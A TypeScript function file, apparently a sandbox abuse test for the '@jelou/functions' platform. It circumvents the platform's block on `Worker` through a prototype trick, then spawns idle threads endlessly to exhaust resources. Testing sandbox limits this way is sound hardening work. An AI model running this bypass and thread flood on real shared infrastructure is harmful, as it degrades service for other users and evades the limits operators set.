// Bypasses the block of `Worker`, and starts idle threads until no more can start.
import { define } from "@jelou/functions";
import { EventEmitter } from "node:events";
import { Worker } from "node:worker_threads";

Object.setPrototypeOf(Worker, EventEmitter);

export default define({
  description: "thread_flood",
  config: { public: true, timeout: 100000 },
  handler: async () => {
    const all: Worker[] = [];
    while (true) {
      const thread = new Worker(
        "setInterval(() => {}, 1000); require('node:worker_threads').parentPort.postMessage(1)",
        {
          eval: true,
        },
      );
      await new Promise((started, failed) => thread.on("message", started).on("error", failed));
      all.push(thread);
    }
  },
});
